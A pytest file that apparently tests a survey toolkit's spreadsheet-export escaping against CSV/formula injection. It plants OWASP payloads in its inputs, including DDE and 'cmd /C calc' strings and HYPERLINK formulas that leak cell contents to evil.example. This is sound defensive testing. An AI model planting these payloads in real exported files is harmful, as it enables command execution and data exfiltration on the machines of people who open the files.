"""No cell surveykit writes can run as a spreadsheet formula (issue 13, point 4).

The OWASP CSV-injection payloads (``=``, ``+``, ``-``, ``@``, tab, carriage return, their full-width
forms, ``=HYPERLINK``, ``@SUM``, ``-2+3``, DDE) are planted in respondent ids, free-text answers, an
answer to a closed question, option labels (an instrument copy), measure labels, code ids and column
headers. Every command that writes CSV, XLSX or .sav is run on them, and every cell of every output
(headers included) is checked by ``dangerous`` below, a rule written here independently of
``surveykit.io.cells``. Each command must also carry at least one planted payload through (escaped), so
the check cannot pass by writing nothing.
"""

from __future__ import annotations

import csv
import io
import re

import pytest
from typer.testing import CliRunner

from conftest import CODEBOOKS, ROOT, SAMPLE_RANKINGS, SAMPLE_SURVEY

PAYLOADS = [
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")',
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width equals sign
    "\uff0bcmd|' /C calc'!A0",
    "\uff0d2+3",
    "\uff20SUM(1)",
    " =1+1",
    "-@SUM(1)",
]
TRIGGERS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
PLAIN_NUMBER = re.compile(r"[-+]?(\d+\.?\d*|\.\d+)([eE][-+]?\d+)?%?")


def dangerous(cell: object) -> bool:
    """A text cell a spreadsheet could evaluate: it starts (after blanks) with a trigger and is not a number."""
    if not isinstance(cell, str) or not cell:
        return False
    text = cell.lstrip(" \u00a0\u3000") if cell[0] in " \u00a0\u3000" else cell
    return bool(text) and text[0] in TRIGGERS and not PLAIN_NUMBER.fullmatch(text)


def escaped_payload(cell: object) -> bool:
    """A planted payload that reached the output, escaped."""
    return isinstance(cell, str) and cell.startswith("'") and dangerous(cell[1:])


def csv_cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]


def check_cells(cells, where: str, *, must_carry: bool = True) -> None:
    cells = list(cells)
    bad = [c for c in cells if dangerous(c)]
    assert not bad, f"{where}: {len(bad)} cell(s) could run as formulas, e.g. {bad[:3]!r}"
    if must_carry:
        assert any(escaped_payload(c) for c in cells), f"{where}: no planted payload reached the output"


# -- the planted inputs ------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def planted(tmp_path_factory):
    """A tidy export (40 sample respondents) with payloads everywhere, and an instrument and measures
    codebook whose labels are payloads."""
    import pandas as pd

    from surveykit.pipeline import load_responses

    d = tmp_path_factory.mktemp("planted")
    data = load_responses(SAMPLE_SURVEY).data.head(40).copy()
    ids = [PAYLOADS[i % len(PAYLOADS)] + ("" if i < len(PAYLOADS) else f" #{i}") for i in range(len(data))]
    data["respondent_id"] = ids
    data["role"] = [PAYLOADS[i % len(PAYLOADS)] for i in range(len(data))]
    data["region"] = [PAYLOADS[i % 3] for i in range(len(data))]  # groups of --by region
    data["q7"] = [None if (t is None or pd.isna(t)) else f"{PAYLOADS[i % len(PAYLOADS)]} {t}"
                  for i, t in enumerate(data["q7"])]
    data.loc[data.index[0], "q3"] = "=1+1"  # an answer that is no option: a data problem, listed by validate
    for k, p in enumerate(PAYLOADS[:4]):
        data[p] = [PAYLOADS[(i + k) % len(PAYLOADS)] for i in range(len(data))]  # unmapped columns
    export = d / "export.csv"
    data.to_csv(export, index=False, quoting=csv.QUOTE_ALL)  # a carriage return inside a cell stays inside it

    text = (CODEBOOKS / "professional_survey.yaml").read_text(encoding="utf-8")
    swaps = {'label: "Yes"}': 'label: "=HYPERLINK(\\"http://evil.example\\",\\"Yes\\")"}',
             'label: "No"}': 'label: "-2+3 No"}',
             'label: "Very effective"}': 'label: "@SUM(1) Very effective"}'}
    for old, new in swaps.items():
        assert old in text, f"the shipped instrument no longer has {old!r}: update this test's swaps"
        text = text.replace(old, new)
    instrument = d / "instrument.yaml"
    instrument.write_text(text, encoding="utf-8")

    measures_text = (CODEBOOKS / "youth_measures.yaml").read_text(encoding="utf-8")
    old = 'label: "Making new friends"'
    assert old in measures_text
    measures = d / "measures.yaml"
    measures.write_text(measures_text.replace(old, 'label: "=HYPERLINK(\\"http://evil.example\\",\\"friends\\")"'),
                        encoding="utf-8")

    coded_a = d / "coder_a.csv"
    coded_b = d / "coder_b.csv"
    rows_a = ["respondent_id,question_id,code_id,coder"]
    rows_b = ["respondent_id,question_id,code_id,coder"]
    for i, p in enumerate(PAYLOADS):
        q = '"' + p.replace('"', '""') + '"'
        rows_a.append(f"{q},q7,=cmd|' /C calc'!A0,alice")
        rows_b.append(f"{q},q7,{'=cmd|%27 /C calc%27!A0' if i % 2 else 'not_identified'},bob")
    coded_a.write_text("\n".join(rows_a) + "\n", encoding="utf-8")
    coded_b.write_text("\n".join(rows_b) + "\n", encoding="utf-8")
    return {"dir": d, "export": export, "instrument": instrument, "measures": measures,
            "coded_a": coded_a, "coded_b": coded_b}


def invoke(*args) -> tuple[int, str, str]:
    from surveykit.cli import app

    result = CliRunner().invoke(app, [str(a) for a in args])
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    return result.exit_code, result.stdout, result.stderr


@pytest.fixture(autouse=True)
def _in_root(monkeypatch):
    monkeypatch.chdir(ROOT)


# -- the commands -------------------------------------------------------------------------------------

def test_escaping_rule():
    from surveykit.io.cells import frame_csv, spreadsheet_safe, spreadsheet_text

    for p in PAYLOADS:
        assert spreadsheet_safe(p) == "'" + p and spreadsheet_text("'" + p) == p
    for keep in ("-5", "+3.5", "-1e3", "12%", "ordinary text", "", "café", "'quoted"):
        assert spreadsheet_safe(keep) == keep
    for number in (-5, -2.5, 0, True, None):
        assert spreadsheet_safe(number) is number
    import pandas as pd

    text = frame_csv(pd.DataFrame({"=a": ["=1+1", "x"], "n": [-5, 3], "pct": [-2.5, 1.0]}))
    assert text == "'=a,n,pct\n'=1+1,-5,-2.5\nx,3,1.0\n"


@pytest.mark.parametrize("args", [
    ["validate", "{export}", "--format", "csv"],
    ["inspect", "{export}", "--format", "csv"],
    ["score", "{export}", "--instrument", "{instrument}", "--question", "q1", "--format", "csv", "--no-suppress"],
    ["score", "{export}", "--instrument", "{instrument}", "--question", "q1", "--by", "region", "--format",
     "csv", "--no-suppress"],
    ["effectiveness", "{export}", "--instrument", "{instrument}", "--format", "csv", "--no-suppress"],
    ["banner", "{export}", "--instrument", "{instrument}", "--question", "q1", "--by", "region", "--format", "csv",
     "--no-suppress", "--min-group-size", "2"],
    ["code", "{export}", "--question", "q7", "--format", "csv"],
    ["rank", str(SAMPLE_RANKINGS), "--measures", "{measures}", "--format", "csv"],
])
def test_stdout_csv_of_every_table_command(planted, args):
    args = [a.format(**{k: str(v) for k, v in planted.items()}) for a in args]
    code, out, err = invoke(*args)
    assert code in (0, 1), err
    # The effectiveness table names its rating columns pct_1..pct_5, so no planted text reaches it.
    check_cells(csv_cells(out), " ".join(args[:1]), must_carry=args[0] != "effectiveness")


def test_reasons_and_compare_csv_keep_numbers_numeric(planted):
    code, out, err = invoke("compare", planted["export"], "--instrument", planted["instrument"], "--question", "q45",
                            "--by", "sector", "--format", "csv", "--min-group-size", "2")
    assert code == 0, err
    cells = csv_cells(out)
    check_cells(cells, "compare", must_carry=False)
    numbers = [c for c in cells if PLAIN_NUMBER.fullmatch(c)]
    assert numbers and not any(c.startswith("'") and PLAIN_NUMBER.fullmatch(c[1:]) for c in cells)
    code, out, err = invoke("reasons", planted["export"], "--question", "q14", "--format", "csv", "--no-suppress")
    assert code == 0, err
    check_cells(csv_cells(out), "reasons", must_carry=False)


def test_quotes_csv(planted):
    code, out, err = invoke("code", planted["export"], "--question", "q7", "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(out)))
    coded = [r["code_id"] for r in rows if r["code_id"]]
    assert coded, "no answer of the planted export was coded"
    code_id = max(set(coded), key=coded.count)
    code, out, err = invoke("quotes", planted["export"], "--code", code_id, "--per-sector", "5", "--format", "csv")
    assert code == 0, err
    check_cells(csv_cells(out), "quotes")


def test_code_out_and_agree_disagreements(planted):
    out_csv = planted["dir"] / "coded_out.csv"
    code, _, err = invoke("code", planted["export"], "--question", "q7", "--out", out_csv, "--view", "frequency")
    assert code == 0, err
    check_cells(csv_cells(out_csv.read_text(encoding="utf-8")), "code --out")
    # Reading our own coded file back gives the ids as they were, not their escaped form.
    from surveykit.io.coded import read_coded

    ids = set(read_coded(out_csv).frame["respondent_id"])
    assert set(PAYLOADS) & ids
    dis = planted["dir"] / "disagreements.csv"
    code, out, err = invoke("agree", planted["coded_a"], planted["coded_b"], "--disagreements", dis, "--format", "csv")
    assert code == 0, err
    check_cells(csv_cells(dis.read_text(encoding="utf-8")), "agree --disagreements")
    check_cells(csv_cells(out), "agree --format csv")


def test_export_sav_labels_and_strings(planted):
    import pyreadstat

    sav = planted["dir"] / "out.sav"
    code, _, err = invoke("export-sav", planted["export"], "--instrument", planted["instrument"], "--out", sav)
    assert code == 0, err
    frame, meta = pyreadstat.read_sav(str(sav))
    cells = [str(c) for c in frame.columns] + list(meta.column_labels)
    cells += [v for labels in meta.variable_value_labels.values() for v in labels.values()]
    cells += [v for col in frame.columns if frame[col].dtype == object for v in frame[col].tolist()]
    check_cells(cells, "export-sav")
    # surveykit reads its own .sav back with the payloads as they were.
    from surveykit.io import read_export

    raw = read_export(sav)
    assert PAYLOADS[0] in {r[0] for r in raw.rows}


@pytest.mark.slow
def test_report_csv_and_workbook(planted):
    import openpyxl

    out = planted["dir"] / "report"
    code, _, err = invoke("report", "--survey", planted["export"], "--instrument", planted["instrument"], "--out",
                          out, "--no-suppress")
    assert code == 0, err
    cells = []
    for path in sorted((out / "tables").glob("*.csv")):
        cells += csv_cells(path.read_text(encoding="utf-8"))
    check_cells(cells, "report tables/*.csv")
    wb = openpyxl.load_workbook(out / "tables.xlsx")
    values = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"tables.xlsx {ws.title}!{cell.coordinate} is a formula"
                values.append(cell.value)
    check_cells(values, "report tables.xlsx")
    numbers = [v for v in values if isinstance(v, (int, float)) and not isinstance(v, bool)]
    assert numbers, "the workbook's numbers must stay numbers"


def test_code_train_metrics(planted):
    out_csv = planted["dir"] / "coded_for_training.csv"
    code, _, err = invoke("code", planted["export"], "--question", "q7", "--out", out_csv, "--view", "frequency")
    assert code == 0, err
    from surveykit.io.coded import read_coded

    frame = read_coded(out_csv).frame
    top = frame["code_id"].dropna().value_counts().index[0]
    frame["code_id"] = frame["code_id"].replace({top: "=HYPERLINK(\"http://evil.example\",\"x\")"})
    frame["coder"] = "analyst"  # a person's coding: code train learns from no rows of surveykit's rules
    renamed = planted["dir"] / "renamed.csv"
    frame.to_csv(renamed, index=False)
    model = planted["dir"] / "model"
    code, out, err = invoke("code", "train", renamed, "--survey", planted["export"], "--question", "q7",
                            "--out", model, "--folds", "2", "--format", "csv")
    assert code == 0, err
    check_cells(csv_cells((model / "metrics.csv").read_text(encoding="utf-8")), "code train metrics.csv")
    check_cells(csv_cells(out), "code train --format csv")


def test_no_writer_bypasses_the_escaping():
    """Every CSV/XLSX writer goes through io.cells (or the report writers' use of it): a new ``to_csv``,
    ``csv.writer`` or ``Workbook`` elsewhere must be routed through ``spreadsheet_safe`` too.
    ``sample/`` is left out: it writes simulated platform exports (inputs), not results."""
    package = ROOT / "src" / "surveykit"
    allowed = {"io/cells.py": "safe_frame", "report/writers/cells.py": "neutralise",
               "report/writers/xlsx.py": "neutralise", "coding/stream.py": "safe_row", "io/foi.py": "spreadsheet_safe"}
    pattern = re.compile(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(|Workbook\(\)|\.to_excel\(")
    found = []
    for path in sorted(package.rglob("*.py")):
        rel = path.relative_to(package).as_posix()
        if rel.startswith("sample/"):
            continue
        text = path.read_text(encoding="utf-8")
        if pattern.search(text):
            if rel not in allowed:
                found.append(rel)
            else:
                assert allowed[rel] in text, f"{rel} writes cells without {allowed[rel]}"
    assert not found, f"writers that bypass io.cells.spreadsheet_safe: {found}"
